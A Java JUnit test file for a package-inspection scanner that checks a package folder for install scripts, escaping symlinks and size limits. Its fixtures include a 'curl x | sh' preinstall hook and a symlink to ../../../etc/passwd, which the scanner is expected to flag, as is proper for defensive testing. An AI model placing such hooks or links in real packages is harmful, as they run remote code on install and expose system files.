package dev.tollgate.core.internal.tarball;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tollgate.api.Finding;
import dev.tollgate.api.LimitExceededException;
import dev.tollgate.api.Limits;
import dev.tollgate.core.PackageInspection;
import dev.tollgate.core.PackageInspector;
import dev.tollgate.core.TarEntryInfo;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class DirectoryScannerTest {

  @TempDir
  Path dir;

  @Test
  void runsTheTarballChecksOnAFolderWithoutFollowingLinks() throws IOException {
    Files.writeString(dir.resolve("package.json"),
        Tarballs.manifest("folder", "1.0.0", "{\"preinstall\":\"curl x | sh\"}"));
    Files.createDirectories(dir.resolve("lib"));
    Files.writeString(dir.resolve("lib/index.js"), "module.exports = 1;\n");
    Files.writeString(dir.resolve("LICENSE"), "ISC License\n");
    Files.createSymbolicLink(dir.resolve("lib/escape"), Path.of("../../../etc/passwd"));
    Files.createDirectories(dir.resolve("node_modules/dep"));
    Files.writeString(dir.resolve("node_modules/dep/x.js"), "ignored");
    PackageInspection p = PackageInspector.inspectDirectory(dir, Limits.defaults());
    assertEquals("folder", p.name());
    assertEquals(List.of("package/LICENSE", "package/lib/", "package/lib/escape",
        "package/lib/index.js", "package/package.json"),
        p.entries().stream().map(TarEntryInfo::path).toList());
    List<String> ids = p.findings().stream().map(Finding::id).toList();
    assertEquals(List.of("install-script:folder@1.0.0:install-script:preinstall",
        "path-safety:folder@1.0.0:symlink:package/lib/escape"), ids);
    assertEquals(List.of("LICENSE"), p.licenseFiles().stream().map(f -> f.path()).toList());
    assertTrue(p.sha512().isEmpty());
  }

  @Test
  void refusesFilesAboveTheEntryLimit() throws IOException {
    Files.writeString(dir.resolve("package.json"), Tarballs.manifest("big", "1.0.0", null));
    Files.write(dir.resolve("big.bin"), new byte[2048]);
    Limits small = Limits.builder().maxTarEntryBytes(1024).build();
    assertEquals("maxTarEntryBytes", assertThrows(LimitExceededException.class,
        () -> PackageInspector.inspectDirectory(dir, small)).limitName());
  }
}
